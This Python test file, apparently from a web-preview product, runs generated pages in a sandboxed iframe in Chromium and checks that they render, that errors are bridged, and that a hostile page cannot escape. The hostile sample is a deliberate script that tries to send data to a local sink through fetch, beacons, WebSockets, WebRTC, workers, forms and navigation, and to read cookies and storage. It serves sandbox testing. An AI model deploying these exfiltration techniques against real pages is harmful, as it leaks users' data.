"""Previews in a real Chromium, in the frame of the real page: every stack shows, and a hostile one reaches nobody."""

import asyncio
import importlib.util
from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager, suppress
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import Browser, Page
from studio_parts import Atelier, atelier, variants_of

from heald.agent.model_chain import ModelLike
from heald_studio.cdn.packages import MISSING, is_installed
from serving_parts import S, Script

pytestmark = [
    pytest.mark.skipif(not is_installed(), reason=MISSING),
]

_EMBED = """(preview) => {
  window.reports = [];
  addEventListener("message", (event) => {
    const frame = document.getElementById("preview");
    if (frame && event.source === frame.contentWindow) reports.push({ ...event.data, origin: event.origin });
  });
  document.body.innerHTML = "";
  const frame = document.createElement("iframe");
  frame.id = "preview";
  frame.setAttribute("sandbox", "allow-scripts");
  frame.style.cssText = "width: 900px; height: 600px";
  frame.src = preview;
  document.body.append(frame);
}"""
_UNKNOWN = "directive 'webrtc'"
"""Chromium does not know this part of the policy yet, and says so."""

_MARKUP = """<!doctype html><html><head><title>Hostile</title>
<link rel="dns-prefetch" href="http://SINK/a"><link rel="preconnect" href="http://SINK">
<link rel="prefetch" href="http://SINK/b"><link rel="modulepreload" href="http://SINK/b.js">
<link rel="stylesheet" href="http://SINK/c.css"><script src="http://SINK/d.js"></script>
<style>@import url(http://SINK/e.css); body { background: url(http://SINK/f.png) }</style></head>
<body><h1>Hostile</h1><img src="http://SINK/g.png"><iframe src="http://SINK/h"></iframe>
<object data="http://SINK/i"></object><video src="http://SINK/j"></video>
<form id="f" action="http://SINK/k" method="post"><input name="a"></form>
<iframe srcdoc="<script>PEER</script>"></iframe>
"""
_PEER = """
const peer = new RTCPeerConnection({iceServers: [
  {urls: 'stun:SINK'}, {urls: 'turn:SINK?transport=tcp', username: 'u', credential: 'p'}]});
peer.createDataChannel('x');
peer.createOffer().then((offer) => peer.setLocalDescription(offer));
"""
_SCRIPT = """
const sink = "http://SINK";
const outcome = (thing, good, bad) => new Promise((yes, no) => { thing[good] = yes; thing[bad] = no; });
const image = () => { const made = new Image(); made.src = sink + "/m"; return outcome(made, "onload", "onerror"); };
const link = () => {
  const made = document.createElement("a");
  Object.assign(made, { href: sink + "/t", ping: sink + "/u", target: "_blank" });
  document.body.append(made);
  made.click();
};
const inner = () => {
  const made = document.createElement("iframe");
  document.body.append(made);
  return made.contentWindow.eval("PEER_TEXT");
};
const ways = {
  origin: () => window.origin,
  cookie: () => document.cookie,
  storage: () => localStorage.length,
  database: () => outcome(indexedDB.open("x"), "onsuccess", "onerror"),
  parent: () => parent.document.title,
  top: () => { top.location = sink + "/top"; },
  fetch: () => fetch(sink + "/l", { mode: "no-cors" }),
  api: () => fetch("OWN/projects").then((answer) => answer.status),
  image,
  beacon: () => navigator.sendBeacon(sink + "/n"),
  socket: () => outcome(new WebSocket("ws://SINK/o"), "onopen", "onerror"),
  events: () => outcome(new EventSource(sink + "/p"), "onopen", "onerror"),
  worker: () => new Worker(URL.createObjectURL(new Blob([`fetch("${sink}/q")`]))),
  service: () => navigator.serviceWorker.register("sw.js"),
  window: () => window.open(sink + "/r"),
  form: () => document.getElementById("f").submit(),
  module: () => import(sink + "/s.js"),
  peer: () => { PEER },
  inner,
  link,
};
(async () => {
  const tried = {};
  for (const [name, way] of Object.entries(ways)) {
    try { tried[name] = String(await way()); } catch { tried[name] = "no"; }
  }
  parent.postMessage({ heald: "tried", tried }, "*");
  setTimeout(() => { location.href = sink + "/v"; }, 300);
})();
"""


def _hostile(sink: str, preview: str) -> str:
    script = _SCRIPT.replace("PEER_TEXT", _PEER.replace("\n", " ")).replace("PEER", _PEER)
    text = f"{_MARKUP.replace('PEER', _PEER)}<script>{script}</script></body></html>"
    return text.replace("SINK", sink).replace("OWN", preview)


class Sink(asyncio.DatagramProtocol):
    """Records the requests that it receives.

    A bare connection does not count: Chromium opens one for a navigation that it then forbids.
    """

    def __init__(self) -> None:
        self.came: list[str] = []

    def datagram_received(self, data: bytes, addr: tuple[str, int]) -> None:
        self.came.append(f"udp {len(data)}")

    async def accept(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with suppress(TimeoutError, OSError):
            async with asyncio.timeout(1):
                self.came.append(f"tcp {(await reader.readline())!r}")
        writer.close()


@asynccontextmanager
async def _sink() -> AsyncGenerator[tuple[Sink, str]]:
    sink = Sink()
    server = await asyncio.start_server(sink.accept, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(
        lambda: sink, local_addr=("127.0.0.1", port)
    )
    try:
        yield sink, f"127.0.0.1:{port}"
    finally:
        transport.close()
        server.close()
        await server.wait_closed()


@asynccontextmanager
async def _looking(server: Atelier, chrome: Browser) -> AsyncGenerator[Page]:
    """Our own page, with nothing on it but its policy."""
    async with await chrome.new_page() as page:
        await page.goto(f"{server.url}/health")  # cookies and storage of our origin
        async with server.client.get("/") as answer:
            policy = answer.headers["Content-Security-Policy"]
        body = "<!doctype html><title>Ours</title><body></body>"
        headers = {"Content-Security-Policy": policy, "Content-Type": "text/html"}
        await page.route(f"{server.url}/", lambda route: route.fulfill(body=body, headers=headers))
        await page.goto(f"{server.url}/")
        yield page


async def _preview_messages(page: Page, kind: str, most: float = 20.0) -> list[dict[str, Any]]:
    """The messages that the preview has sent to the page around it."""
    async with asyncio.timeout(most):
        while True:
            messages: list[dict[str, Any]] = await page.evaluate(
                "(kind) => reports.filter((report) => report.heald === kind)", kind
            )
            if messages:
                return messages
            await asyncio.sleep(0.1)


def _sample(name: str) -> dict[str, str | bytes]:
    path = Path(__file__).parents[1] / "stacks" / "stack_projects.py"
    spec = importlib.util.spec_from_file_location("stack_projects_for_previews", path)
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.project(name)


def _writes(files: dict[str, str]) -> Script:
    calls = [S.call("create_file", path=path, content=text) for path, text in files.items()]
    return lambda: S([["I see. ", *calls], "Built."], piece=256)


async def _built(server: Atelier, **body: Any) -> dict[str, Any]:
    made = await server.project(variants=1, **body)
    return variants_of(await server.over(made["id"]))[0]


FRAMED = ("html_css", "svg", "vue_tailwind", "react_vite", "next_shadcn")
"""A stack of each kind: plain, a drawing, compiled in the page, a project, a framework. `test_stacks_browser.py` shows
all of them."""


async def test_stacks_show_in_the_frame_without_an_error(tmp_path: Path, chrome: Browser) -> None:
    scripts: dict[str, Script] = {}
    for name in FRAMED:
        files = {path: text for path, text in _sample(name).items() if isinstance(text, str)}
        scripts[name] = _writes({path: _without_pictures(text) for path, text in files.items()})
    async with atelier(tmp_path, scripts) as server, _looking(server, chrome) as page:
        problems: list[str] = []
        page.on("pageerror", lambda error: problems.append(str(error)))
        page.on("console", lambda line: problems.append(line.text) if line.type == "error" else None)
        page.on("requestfailed", lambda request: problems.append(f"{request.url}: {request.failure}"))
        expected = (_UNKNOWN, "net::ERR_ABORTED")  # we go on to the next stack while a picture may still load
        for name in FRAMED:
            variant = await _built(server, stack=name, models=[name])
            await page.goto(f"{server.url}/")
            await page.evaluate(_EMBED, variant["preview"])
            frame = page.frame_locator("#preview")
            await frame.get_by_text("Harbour").first.wait_for(state="visible", timeout=30_000)
            size = (await _preview_messages(page, "size"))[-1]
            assert size["width"] > 0
            assert size["height"] > 0
            assert {message["origin"] for message in await page.evaluate("reports")} == {"null"}
            await asyncio.sleep(0.3)
            assert [message for message in problems if not any(part in message for part in expected)] == [], name
            assert (
                await page.evaluate(
                    "reports.filter((report) => report.heald === 'error' || report.heald === 'console')"
                )
                == []
            )


def _without_pictures(text: str) -> str:
    """The samples without the pictures that no model can write as text."""
    lines = [line for line in text.split("\n") if "dot.png" not in line or "import" not in line]
    return (
        "\n".join(lines)
        .replace("src={dot}", 'src="data:,"')
        .replace("url(../assets/dot.png)", "none")
        .replace('<img id="dot" src="data:," alt="" /><img id="public" src="/logo.png" alt="" />', "")
        .replace('<img id="dot" src="dot.png" alt="">', "")
        .replace('src="/logo.png"', 'src="data:,"')
        .replace("data:,", "data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==")
        .replace('url("../dot.png")', "none")
    )


async def test_a_hostile_page_reaches_nobody_and_nothing(tmp_path: Path, chrome: Browser) -> None:
    async with _sink() as (sink, address):
        holder: list[str] = []

        def hostile() -> ModelLike:
            return _writes({"index.html": holder[0]})()

        async with atelier(tmp_path, {"hostile": hostile}) as server, _looking(server, chrome) as page:
            holder.append(_hostile(address, server.url))
            await page.evaluate("document.cookie = 'ours=1'; localStorage.setItem('ours', '1')")
            variant = await _built(server, stack="html_css", models=["hostile"])
            await page.evaluate(_EMBED, variant["preview"])
            (report,) = await _preview_messages(page, "tried", 40.0)
            tried = report["tried"]
            assert tried["origin"] == "null"
            for name in (
                "cookie",
                "storage",
                "database",
                "parent",
                "fetch",
                "api",
                "image",
                "socket",
                "events",
                "peer",
            ):
                assert tried[name] == "no", (name, tried[name])
            assert tried["beacon"] in ("no", "true")  # it may be promised and is never sent
            await asyncio.sleep(1.5)
            assert sink.came == []
            assert page.url == f"{server.url}/"
            assert len(page.context.pages) == 1


async def test_the_bridge_reports_errors_and_of_the_chosen_element(tmp_path: Path, chrome: Browser) -> None:
    text = (
        "<!doctype html><html><head><title>T</title></head><body><ul><li class='a'>One</li><li class='a'>Two</li></ul>"
        "<button onclick='document.title = \"clicked\"'>Press</button>"
        "<script>console.error('odd', {a: 1}); console.warn('hm'); setTimeout(() => missing(), 0);"
        "Promise.reject(new Error('late')); alert('hello')</script></body></html>"
    )
    async with atelier(tmp_path, {"one": _writes({"index.html": text})}) as server, _looking(server, chrome) as page:
        variant = await _built(server, stack="html_css", models=["one"])
        await page.evaluate(_EMBED, variant["preview"])
        reports = await _preview_messages(page, "console")
        assert [(message["level"], message["text"]) for message in reports[:2]] == [
            ("error", 'odd {"a":1}'),
            ("warn", "hm"),
        ]
        await asyncio.sleep(0.5)
        errors = " ".join(message["text"] for message in await _preview_messages(page, "error"))
        assert "missing is not defined" in errors
        assert "Error: late" in errors
        frame = page.frame_locator("#preview")
        await frame.get_by_text("Press").click()
        assert await page.evaluate("reports.filter((report) => report.heald === 'selected')") == []
        await page.evaluate(
            "document.getElementById('preview').contentWindow.postMessage({heald: 'select', on: true}, '*')"
        )
        await frame.get_by_text("Two").click()
        (chosen,) = await _preview_messages(page, "selected")
        assert chosen["html"].startswith('<li class="a"')
        assert "Two</li>" in chosen["html"]
        assert "outline" not in chosen["html"]
        assert chosen["path"] == "body > ul > li:nth-of-type(2)"
        assert (chosen["index"], chosen["count"]) == (1, 1)
        size = (await _preview_messages(page, "size"))[-1]
        assert size["width"] == 900
